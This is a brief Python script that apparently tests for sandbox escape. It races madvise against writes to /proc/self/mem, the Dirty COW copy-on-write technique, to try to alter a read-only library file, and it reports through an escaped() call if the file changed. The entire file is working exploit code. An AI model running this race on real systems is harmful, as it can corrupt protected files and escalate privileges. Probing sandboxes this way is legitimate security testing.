import ctypes
import json
import mmap
import os
import threading
import time

from aim import escaped, libc

path = json.__file__
before = open(path, "rb").read()
libc.mmap.restype = ctypes.c_void_p
where = libc.mmap(None, ctypes.c_size_t(4096), 1, mmap.MAP_PRIVATE, os.open(path, os.O_RDONLY), 0)
end = time.monotonic() + 0.3


def forget():
    while time.monotonic() < end:
        libc.madvise(ctypes.c_void_p(where), ctypes.c_size_t(4096), 4)


threading.Thread(target=forget).start()
try:
    with open("/proc/self/mem", "r+b", 0) as memory:
        while time.monotonic() < end:
            memory.seek(where)
            memory.write(b"#DIRTY")
except OSError as error:
    print(error.errno)
if open(path, "rb").read() != before:
    escaped("a library file was changed")
